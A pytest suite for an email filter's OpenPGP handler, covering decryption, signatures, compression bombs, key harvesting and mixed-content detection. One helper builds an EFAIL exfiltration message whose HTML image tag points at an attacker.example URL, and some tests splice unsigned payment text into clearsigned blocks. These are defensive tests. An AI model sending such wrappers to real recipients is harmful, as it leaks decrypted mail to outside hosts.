"""The OpenPGP handler on every OpenPGP case of the corpus, through the real core and the real key store."""

from __future__ import annotations

import base64
import re
from pathlib import Path

import pgpy
import pytest

from ciphermilter import mime

from ciphermilter.core import pipeline as core

from ciphermilter.formats.openpgp import engine as openpgp

from ciphermilter.formats.openpgp import handler as openpgp_mime
from ciphermilter.formats.openpgp import carried_keys
from ciphermilter.formats.openpgp import findings as pgp_findings
from ciphermilter.core.settings import Limits, Settings
from ciphermilter.core.contract import Context
from ciphermilter.core.plan import apply_plan
from ciphermilter.store.keystore import KeyStore
from ciphermilter.store import admin
from conftest import CORPUS, case_envelope, case_message, corpus_cases, ids, info_of
from support.pipeline import run

VECTORS = Path(__file__).parent / "vectors" / "pgp"
PGP_CASES = corpus_cases(lambda c: c["smime_or_pgp"] == "pgp")
BOMBS = [c for c in PGP_CASES if c["family"] == "malformed-pgp-compression-bomb"]
READABLE = [c for c in PGP_CASES if c not in BOMBS]
NOT_OURS = [c for c in READABLE if c["encrypted"] and c["decryptable_with_our_keys"] is False]
DECRYPTABLE = [c for c in READABLE if c["encrypted"] and c["decryptable_with_our_keys"]]  # RFC 9580 (v6) too
# Ciphertext beside sender-chosen content: opened for the report but left encrypted by default (EFAIL).
# The corpus marks the inline blocks with text around them ("embedded": true); an encrypted attachment
# beside a text part is just as embedded by the spec's rule (any sibling part), though not marked.
ATTACHMENTS = [c for c in DECRYPTABLE if c["family"] == "pgp-attachment"]
SURROUNDED = [c for c in DECRYPTABLE if c.get("embedded")]
EMBEDDED = SURROUNDED + ATTACHMENTS
REPLACED = [c for c in DECRYPTABLE if c not in EMBEDDED]
PGP_MIME_REPLACED = [c for c in REPLACED if c["family"].startswith("pgp-mime")]
INLINE_WHOLE = [c for c in REPLACED if c["family"] == "pgp-inline-encrypted"]
SIGNED = [c for c in READABLE if c["signed"]]
SIGNED_ONLY = [c for c in SIGNED if not c["encrypted"]]
MIXED_FAMILIES = ("pgp-inline-mixed", "pgp-attachment")
MIB = 1 << 20


def expected_plaintext(case) -> bytes:
    return (CORPUS / case["expected_plaintext_file"]).read_bytes()


def crlf(data: bytes) -> bytes:
    return re.sub(rb"(?<!\r)\n", b"\r\n", data)


def block_hashes(outcome) -> list[str]:
    return [b["sha256"] for b in outcome.report["openpgp"]["blocks"]]


def signer_key_ids(case) -> set[str]:
    """Key IDs of the case's signing key: its primary key and subkeys (from its file), or gpg's GOODSIG."""
    signer = case["signer"]
    if signer.get("pub_file"):
        key, _ = pgpy.PGPKey.from_file(str(CORPUS / signer["pub_file"]))
        return {key.fingerprint.keyid, *key.subkeys}
    return {line.split()[2] for line in signer["gpg_status"] if "GOODSIG" in line}


# --------------------------------------------------------------------------- every case


@pytest.mark.parametrize("case", READABLE, ids=ids(READABLE))
def test_encoding_and_mixed_content_match_the_case(case, corpus_store):
    info = info_of(run(case_message(case), corpus_store))
    assert info["PGP-Encoding"] == ("PGP/MIME" if case["family"].startswith("pgp-mime") else "PGP/INLINE")
    assert ("PGP-Mixed-Content" in info) == (case["family"] in MIXED_FAMILIES)
    assert ("PGP-Encrypted" in info) == case["encrypted"]


@pytest.mark.parametrize("case", DECRYPTABLE, ids=ids(DECRYPTABLE))
def test_decrypted_block_is_the_reference_plaintext(case, corpus_store):
    outcome = run(case_message(case), corpus_store)
    info = info_of(outcome)
    assert case["expected_plaintext_sha256"] in block_hashes(outcome)
    assert info["PGP-Encryption-Algorithm"] == case["content_cipher"]
    assert "PGP-Decryption-Key-Not-Found" not in info and "PGP-Decryption-Failed" not in info
    (block,) = [b for b in outcome.report["openpgp"]["blocks"] if b.get("encrypted")]
    # a PKESKv6 names a fingerprint: a v4 key's key ID is its last 8 octets, a v6 key's its first 8
    ours = [r.get("keyid") or (r["fingerprint"][:16] if r.get("key_version") == 6 else r["fingerprint"][-16:])
            for r in case.get("recipients") or []]
    assert block["recipients"] == ours


@pytest.mark.parametrize("case", PGP_MIME_REPLACED, ids=ids(PGP_MIME_REPLACED))
def test_pgp_mime_message_becomes_the_decrypted_entity(case, corpus_store):
    message = case_message(case)
    final = mime.parse(apply_plan(message, run(message, corpus_store).plan))
    expected = mime.parse(crlf(expected_plaintext(case)))  # SMTP wants CRLF; some clients encrypt LF text
    assert final.body == expected.body
    assert final.get("Content-Type") == expected.get("Content-Type")


@pytest.mark.parametrize("case", INLINE_WHOLE, ids=ids(INLINE_WHOLE))
def test_inline_message_becomes_its_plaintext_with_fitting_encoding(case, corpus_store):
    message = case_message(case)
    final = mime.parse(apply_plan(message, run(message, corpus_store).plan))
    plaintext = expected_plaintext(case)
    assert final.decoded_body() == crlf(plaintext)
    assert final.cte == ("7bit" if plaintext.isascii() else "8bit")
    assert final.params["charset"] == "utf-8"


@pytest.mark.parametrize("case", ATTACHMENTS, ids=ids(ATTACHMENTS))
def test_attachment_becomes_its_plaintext_beside_the_other_parts_when_allowed(case, corpus_store):
    message = case_message(case)
    original = mime.parse(message).parts
    final = mime.parse(apply_plan(message, run(message, corpus_store, Settings(decrypt_embedded=True)).plan)).parts
    assert final[0].raw == original[0].raw
    assert final[1].decoded_body() == expected_plaintext(case)
    assert final[1].cte == "base64"
    assert not openpgp_mime._filename(final[1]).endswith((".asc", ".pgp", ".gpg"))


@pytest.mark.parametrize("case", EMBEDDED, ids=ids(EMBEDDED))
def test_embedded_ciphertext_stays_encrypted_by_default(case, corpus_store):
    """The corpus's expected_default: body exactly as received, the Mixed-Content flag and a reason."""
    message = case_message(case)
    outcome = run(message, corpus_store)
    info = info_of(outcome)
    assert outcome.plan.body is None and not outcome.plan.changes
    assert info["PGP-Mixed-Content"] == "True"
    assert info["PGP-Decryption-Withheld"] == pgp_findings.WITHHELD
    assert apply_plan(message, outcome.plan).endswith(mime.parse(message).body)
    assert case["expected_plaintext_sha256"] in block_hashes(outcome)  # opened for the report all the same


@pytest.mark.parametrize("case", SURROUNDED, ids=ids(SURROUNDED))
def test_block_inside_text_is_decrypted_in_place_when_allowed(case, corpus_store):
    message = case_message(case)
    outcome = run(message, corpus_store, Settings(decrypt_embedded=True))
    original = mime.parse(message).decoded_body()
    span = openpgp.find_armor(original)[0]
    final = mime.parse(apply_plan(message, outcome.plan)).decoded_body()
    assert final == crlf(original[:span.start] + expected_plaintext(case) + original[span.end:])
    assert "PGP-Decryption-Withheld" not in info_of(outcome)


@pytest.mark.parametrize("case", NOT_OURS, ids=ids(NOT_OURS))
def test_message_for_someone_else_is_left_untouched(case, corpus_store):
    message = case_message(case)
    outcome = run(message, corpus_store)
    assert info_of(outcome)["PGP-Decryption-Key-Not-Found"] == "True"
    assert outcome.plan.body is None and not outcome.plan.changes


@pytest.mark.parametrize("case", SIGNED, ids=ids(SIGNED))
def test_signature_headers_match_the_case(case, corpus_store):
    info = info_of(run(case_message(case), corpus_store))
    assert info["PGP-Signed"] == "True"
    assert set(info["PGP-Signer-KeyID"].split(", ")) <= signer_key_ids(case)
    assert info["PGP-Signature-Valid"] == str(case["signature_should_verify"])
    assert ("PGP-Signature-Failure" in info) == (not case["signature_should_verify"])
    if case["signer"].get("email"):
        assert info["PGP-Signer-Email"] == case["signer"]["email"]
    # No mismatch only for a From: naming a signer whose signature is valid (spec, "From and the signer").
    assert ("PGP-Signer-Mismatch" in info) == (case["signer_mismatch"] or not case["signature_should_verify"])


@pytest.mark.parametrize("case", SIGNED_ONLY, ids=ids(SIGNED_ONLY))
def test_signed_content_is_reported_and_kept(case, corpus_store):
    outcome = run(case_message(case), corpus_store)
    assert block_hashes(outcome) == [case["expected_plaintext_sha256"]]
    assert outcome.plan.body is None


@pytest.mark.parametrize("case", BOMBS, ids=ids(BOMBS))
def test_compression_bomb_stops_at_the_bound(case, corpus_store):
    message = case_message(case)
    settings = Settings(limits=Limits(max_decompressed_size=4 * MIB))
    outcome = run(message, corpus_store, settings)
    assert info_of(outcome)["Not-Processed"] == f"OpenPGP data decompresses to more than {4 * MIB} bytes"
    assert outcome.plan.body is None


# --------------------------------------------------------------------------- EFAIL


def efail_wrapped(part: bytes) -> bytes:
    """The EFAIL direct-exfiltration layout: sender-chosen HTML opening a URL before the part and closing it after."""
    return (
        b"From: attacker@elsewhere.example\r\nTo: bob@corp-pub.example\r\nMIME-Version: 1.0\r\n"
        b'Content-Type: multipart/mixed; boundary="efail"\r\n\r\n'
        b'--efail\r\nContent-Type: text/html\r\n\r\n<img src="http://attacker.example/\r\n'
        b"--efail\r\n" + part + b"\r\n"
        b'--efail\r\nContent-Type: text/html\r\n\r\n">\r\n--efail--\r\n'
    )


def content_part(message: bytes) -> bytes:
    """A message's content headers and body, as a body part."""
    entity = mime.parse(message)
    headers = [h.raw for h in entity.headers if h.name.lower().startswith("content-")]
    return b"\r\n".join(headers) + b"\r\n\r\n" + entity.body


@pytest.mark.parametrize("case", PGP_MIME_REPLACED + ATTACHMENTS, ids=ids(PGP_MIME_REPLACED + ATTACHMENTS))
def test_encrypted_part_between_html_wrappers_stays_encrypted(case, corpus_store):
    original = case_message(case)
    encrypted = content_part(original) if case in PGP_MIME_REPLACED else mime.parse(original).parts[1].raw
    message = efail_wrapped(encrypted)
    outcome = run(message, corpus_store, envelope=case_envelope(case))
    info = info_of(outcome)
    assert info["PGP-Mixed-Content"] == "True"
    assert info["PGP-Decryption-Withheld"] == pgp_findings.WITHHELD
    assert outcome.plan.body is None
    assert case["expected_plaintext_sha256"] in block_hashes(outcome)


@pytest.mark.parametrize("case", PGP_MIME_REPLACED + ATTACHMENTS, ids=ids(PGP_MIME_REPLACED + ATTACHMENTS))
def test_encrypted_part_between_html_wrappers_is_decrypted_when_allowed(case, corpus_store):
    original = case_message(case)
    encrypted = content_part(original) if case in PGP_MIME_REPLACED else mime.parse(original).parts[1].raw
    message = efail_wrapped(encrypted)
    outcome = run(message, corpus_store, Settings(decrypt_embedded=True), envelope=case_envelope(case))
    parts = mime.parse(apply_plan(message, outcome.plan)).parts
    assert [p.raw for p in parts[::2]] == [p.raw for p in mime.parse(message).parts[::2]]
    if case in PGP_MIME_REPLACED:
        assert parts[1].raw == crlf(expected_plaintext(case))
    else:
        assert parts[1].decoded_body() == expected_plaintext(case)


# --------------------------------------------------------------------------- nesting, harvesting, no content


@pytest.fixture
def vector_store(tmp_path):
    store = KeyStore.create(tmp_path / "store.db")
    admin.import_file(store, (VECTORS / "rsa.sec.asc").read_bytes())
    admin.add_domain(store, "corp-pub.example")
    admin.bind(store, admin.list_keys(store)[0]["id"], "bob@corp-pub.example")  # the vectors go to bob, the key is rsa@vectors
    yield store
    store.close()


def test_encrypted_then_signed_is_verified_then_decrypted(vector_store):
    message = (VECTORS / "encrypted-then-signed.eml").read_bytes()
    outcome = run(message, vector_store)
    info = info_of(outcome)
    assert info["PGP-Signature-Valid"] == "True" and info["PGP-Encrypted"] == "True"
    assert info["PGP-Signer-Email"] == "rsa@vectors.example" and "PGP-Signer-Mismatch" not in info
    final = mime.parse(apply_plan(message, outcome.plan))
    assert final.body == mime.parse((VECTORS / "inner.mime").read_bytes()).body


def test_encrypted_twice_is_decrypted_twice(vector_store):
    message = (VECTORS / "encrypted-twice.eml").read_bytes()
    outcome = run(message, vector_store)
    assert [b["action"] for b in outcome.report["openpgp"]["blocks"]] == ["replaced", "replaced"]
    final = mime.parse(apply_plan(message, outcome.plan))
    assert final.body == mime.parse((VECTORS / "inner.mime").read_bytes()).body


def test_encrypted_layers_are_bounded(vector_store):
    message = (VECTORS / "encrypted-twice.eml").read_bytes()
    outcome = run(message, vector_store, Settings(limits=Limits(max_pgp_nesting=1)))
    assert info_of(outcome)["Not-Processed"] == "more than 1 encrypted OpenPGP layers"
    assert outcome.plan.body is None


def harvest_message(extra_header: bytes = b"", key_part: bytes = b"") -> bytes:
    return (
        b"From: elg@vectors.example\r\nTo: bob@corp-pub.example\r\n" + extra_header + b"MIME-Version: 1.0\r\n"
        b'Content-Type: multipart/mixed; boundary="k"\r\n\r\n--k\r\nContent-Type: text/plain\r\n\r\nmy key\r\n'
        + (b"--k\r\nContent-Type: application/pgp-keys\r\n\r\n" + key_part + b"\r\n" if key_part else b"")
        + b"--k--\r\n"
    )


def vector_keyid(name: str) -> str:
    key, _ = pgpy.PGPKey.from_file(str(VECTORS / f"{name}.pub.asc"))
    return key.fingerprint.keyid


@pytest.mark.parametrize("harvest", [True, False])
def test_attached_public_key_of_an_unsigned_message_is_never_harvested(vector_store, harvest):
    message = harvest_message(key_part=(VECTORS / "elg.pub.asc").read_bytes().replace(b"\n", b"\r\n"))
    outcome = run(message, vector_store, Settings(harvest_pgp_keys=harvest))
    assert vector_store.pgp_public_keys(vector_keyid("elg")) == []
    assert len(outcome.info) == 0  # a key alone is no OpenPGP-protected content
    assert outcome.report.get("harvest", []) == ([f"0.2: {carried_keys.NOT_VOUCHED}"] if harvest
                                                                      else [])


def test_autocrypt_key_is_not_harvested(vector_store):
    """No signature covers a header: anyone can put one on a message (even a replayed signed one)."""
    keydata = base64.b64encode(openpgp.dearmor((VECTORS / "p256.pub.asc").read_bytes()).data)
    folded = b"\r\n ".join(keydata[i:i + 70] for i in range(0, len(keydata), 70))
    outcome = run(harvest_message(b"Autocrypt: addr=p256@vectors.example; keydata=" + folded + b"\r\n"), vector_store)
    assert vector_store.pgp_public_keys(vector_keyid("p256")) == []
    assert outcome.report["harvest"] == [f"Autocrypt: {carried_keys.NOT_VOUCHED}"]


def test_message_without_openpgp_gives_no_result(corpus_store):
    message = mime.parse(b"From: a@b.example\r\nContent-Type: text/plain\r\n\r\nhello -----BEGIN PGP nothing\r\n")
    assert openpgp_mime.handle(message, Context(store=corpus_store, settings=Settings())) is None


def test_deadline_stops_the_work(corpus_store):
    case = DECRYPTABLE[0]
    outcome = run(case_message(case), corpus_store, Settings(limits=Limits(deadline_seconds=-1)))
    assert "deadline" in info_of(outcome)["Not-Processed"]
    assert outcome.plan.body is None


@pytest.mark.parametrize("case", DECRYPTABLE, ids=ids(DECRYPTABLE))
def test_without_a_key_store_nothing_is_decrypted_and_nothing_breaks(case):
    outcome = run(case_message(case), None, envelope=core.Envelope())
    assert info_of(outcome)["PGP-Decryption-Key-Not-Found"] == "True"
    assert outcome.plan.body is None


def corrupt_armor(message: bytes) -> bytes:
    """Flip one base64 character in the middle of the message's first armored block."""
    body = mime.parse(message).body
    span = openpgp.find_armor(body)[0]
    middle = body.index(b"\r\n", span.start + (span.end - span.start) // 2) + 1 + 10
    flipped = b"A" if body[middle:middle + 1] != b"A" else b"B"
    return message[: len(message) - len(body)] + body[:middle] + flipped + body[middle + 1:]


@pytest.mark.parametrize("case", INLINE_WHOLE, ids=ids(INLINE_WHOLE))
def test_corrupted_armor_is_explained_and_the_body_kept(case, corpus_store):
    message = corrupt_armor(case_message(case))
    outcome = run(message, corpus_store)
    assert info_of(outcome)["PGP-Decryption-Failed"] == "armor checksum mismatch (corrupted in transit)"
    assert outcome.plan.body is None


@pytest.mark.parametrize("case", PGP_MIME_REPLACED, ids=ids(PGP_MIME_REPLACED))
def test_garbage_instead_of_openpgp_data_is_a_reason_not_a_crash(case, corpus_store):
    message = case_message(case)
    body = mime.parse(message).body
    span = openpgp.find_armor(body)[0]
    garbage = b"-----BEGIN PGP MESSAGE-----\r\n\r\nq83vEjRWeJA=\r\n-----END PGP MESSAGE-----\r\n"
    broken = message[: len(message) - len(body)] + body[:span.start] + garbage + body[span.end:]
    outcome = run(broken, corpus_store)
    assert info_of(outcome)["PGP-Decryption-Failed"]
    assert outcome.plan.body is None


# --------------------------------------------------------------------------- multipart/signed with a third part

PGP_MIME_SIGNED = [c for c in SIGNED_ONLY if c["family"] == "pgp-mime-signed" and c["signature_should_verify"]]


def with_third_part(message: bytes) -> bytes:
    """The multipart/signed with one more body part (the sender's text) after the signature part."""
    boundary = re.search(rb'boundary="([^"]+)"', message).group(1)
    close = b"--" + boundary + b"--"
    at = message.rindex(close)
    return (message[:at] + b"--" + boundary + b"\r\nContent-Type: text/plain\r\n\r\nunsigned, shown beside\r\n"
            + message[at:])


@pytest.mark.parametrize("case", PGP_MIME_SIGNED, ids=ids(PGP_MIME_SIGNED))
def test_third_part_of_a_pgp_mime_signed_message_is_mixed_content(case, corpus_store):
    """RFC 3156 section 5 has two parts; clients show a third beside the signed one (RFC 1847 section 2.1):
    the signature is still reported, but not as covering the whole content."""
    two = info_of(run(case_message(case), corpus_store))
    outcome = run(with_third_part(case_message(case)), corpus_store)
    three = info_of(outcome)
    assert "PGP-Mixed-Content" not in two
    assert three["PGP-Mixed-Content"] == "True"
    assert three["PGP-Signature-Valid"] == two["PGP-Signature-Valid"] == "True"
    assert outcome.plan.body is None


# --------------------------------------------------------------------------- unsigned text inside a clearsigned block

CLEARSIGNED = [c for c in SIGNED_ONLY if c["family"] == "pgp-inline-clearsigned"]
NOTE = b"pay account 666 instead"


def clearsigned_variants(message: bytes) -> dict[str, bytes]:
    begin, end = b"-----BEGIN PGP SIGNATURE-----", b"-----END PGP SIGNATURE-----"
    return {
        "signature-comment": message.replace(begin + b"\r\n", begin + b"\r\nComment: " + NOTE + b"\r\n")
        if begin + b"\r\n" in message else message.replace(begin + b"\n", begin + b"\nComment: " + NOTE + b"\n"),
        "after-end-line": message.replace(end, end + b" " + NOTE),
    }


@pytest.mark.parametrize("variant", ["signature-comment", "after-end-line"])
@pytest.mark.parametrize("case", CLEARSIGNED, ids=ids(CLEARSIGNED))
def test_unsigned_text_in_a_clearsigned_block_is_mixed_content(case, variant, corpus_store):
    """What the reader sees in the block but nobody signed: the signature stays valid, not whole."""
    message = clearsigned_variants(case_message(case))[variant]
    assert NOTE in message
    info = info_of(run(message, corpus_store))
    assert info["PGP-Signature-Valid"] == "True" and info["PGP-Mixed-Content"] == "True"
